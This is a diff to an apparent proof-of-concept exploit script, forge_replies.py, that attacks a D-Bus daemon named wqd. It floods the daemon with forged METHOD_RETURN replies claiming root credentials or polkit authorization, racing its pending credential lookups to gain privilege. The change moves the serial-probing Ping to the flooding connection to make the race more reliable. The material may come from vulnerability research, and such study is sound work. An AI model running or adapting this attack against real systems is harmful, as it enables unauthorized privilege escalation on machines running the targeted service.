@@ -2,7 +2,7 @@
 
 ``forge_replies.py ADDRESS SOURCE TARGET ATTEMPTS``. Each attempt opens a fresh
 connection (wqd asks the bus, and polkit, once per unique name), learns wqd's
-current message serial from the serial of its reply to ``Peer.Ping``, then calls
+current message serial from the serial of its reply to the flooder's ``Peer.Ping``, then calls
 ``Watch(SOURCE, TARGET)`` while a second connection floods wqd with forged
 ``METHOD_RETURN`` replies whose reply serials cover the next serials wqd will use:
 bodies that claim ``UnixUserID`` 0 / ``ProcessID`` 1, that claim polkit
@@ -54,8 +54,11 @@ async def main(address: str, source: str, target: str, attempts: int) -> None:
     for _ in range(attempts):
         caller = await MessageBus(bus_address=address).connect()
         names.append(caller.unique_name)
-        pong = await caller.call(Message(destination=owner, path="/", interface="org.freedesktop.DBus.Peer",
-                                         member="Ping"))
+        # wqd's current serial, asked by the flooder: the caller's first contact with
+        # wqd must be its Watch, so that wqd's GetConnectionCredentials for it is
+        # pending while the flood runs (wqd may look a caller up on any call, Ping too).
+        pong = await flooder.call(Message(destination=owner, path="/", interface="org.freedesktop.DBus.Peer",
+                                          member="Ping"))
         base = [pong.serial]
         stop = asyncio.Event()
         task = asyncio.ensure_future(flood(flooder, owner, base, stop, sent))
